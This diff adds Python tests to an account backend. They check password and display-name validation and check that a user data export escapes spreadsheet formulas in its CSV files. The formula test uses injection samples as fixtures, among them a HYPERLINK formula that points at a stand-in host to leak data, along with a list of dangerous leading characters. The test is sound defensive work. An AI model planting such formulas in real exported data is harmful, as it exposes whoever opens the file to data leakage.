@@ -7,9 +7,11 @@ passed in, so cooling-off times and token expiry are tested without waiting.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import logging
+import re
 import shutil
 import zipfile
 from collections.abc import Iterator
@@ -202,6 +204,7 @@ def test_a_successful_sign_in_starts_the_count_afresh(backend):
         ("onlylowercaseletters", "mix at least two kinds"),
         ("ann.smith@example.com", "must not be your email"),
         ("Qwerty1234", "too common"),
+        ("Correct horse \ud83d 42", "half of a character"),
     ],
 )
 def test_weak_passwords_are_refused_and_nothing_is_stored(backend, sessions, password, complaint):
@@ -602,6 +605,37 @@ def test_the_download_holds_the_profile_and_what_the_groups_hold(backend, sessio
     assert "bob@example.com" not in everything
 
 
+FORMULA_NAMES = ["=1+1", '=HYPERLINK("http://x.example/?leak","click")', "\uff0bSUM(1)", "'quoted"]
+
+
+def test_the_download_neutralises_formulas_in_every_csv_cell(backend, sessions):
+    ann = backend.sign_up("ann@example.com", PASSWORD, "@Ann")
+    with sessions() as session, session.begin():
+        group = _group(session, "-Group", [(ann.user_id, "owner")])
+        for name in FORMULA_NAMES:
+            session.add(Player(group_id=group.id, name=name, name_key=name.casefold()))
+        session.flush()
+        game = _game(session, group, ann.user_id)
+        game.notes = "\uff1d1+1"
+    with sessions() as session:
+        files = _unzip(export_user_data(session, ann.user_id))
+
+    cells = [
+        cell
+        for name, text in files.items()
+        if name.endswith(".csv")
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+    ]
+    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert not [cell for cell in cells if cell.startswith(starts)]
+    restored = {cell[1:] if cell.startswith("'") else cell for cell in cells}
+    assert {"@Ann", "\uff1d1+1", *FORMULA_NAMES} <= restored
+    assert "''quoted" in cells and "'=1+1" in cells
+    # The JSON files keep the names as they are: JSON is not run by spreadsheets.
+    assert json.loads(files["profile.json"])["display_name"] == "@Ann"
+
+
 def test_no_password_hash_or_token_reaches_a_log_or_the_download(backend, sessions, caplog):
     caplog.set_level(logging.DEBUG)
     ann = backend.sign_up("ann@example.com", PASSWORD, "Ann")
@@ -623,3 +657,25 @@ def test_no_password_hash_or_token_reaches_a_log_or_the_download(backend, sessio
         assert all(secret not in text for text in texts)
     assert all("eyJ" not in text for text in texts)  # no Firebase ID or refresh token either
     assert "password" not in repr(ann).lower()
+
+
+@both_databases
+@pytest.mark.parametrize(
+    ("display_name", "complaint"),
+    [
+        ("Ann\x00", "control character (U+0000)"),
+        ("Ann \ud83d", "half of a character (U+D83D"),
+        ("A" * 81, "at most 80 characters"),
+    ],
+)
+def test_display_names_a_database_cannot_store_are_refused(
+    backend, sessions, display_name, complaint
+):
+    with pytest.raises(InvalidDisplayName, match=re.escape(complaint)) as refused:
+        backend.sign_up("ann@example.com", PASSWORD, display_name)
+    assert refused.value.field == "display_name"
+    assert stored_emails(backend, sessions) == set()
+    ann = backend.sign_up("ann@example.com", PASSWORD, "Ann   Marie")
+    assert ann.display_name == "Ann Marie"
+    with pytest.raises(InvalidDisplayName, match=re.escape(complaint)):
+        backend.change_display_name(ann.user_id, display_name)
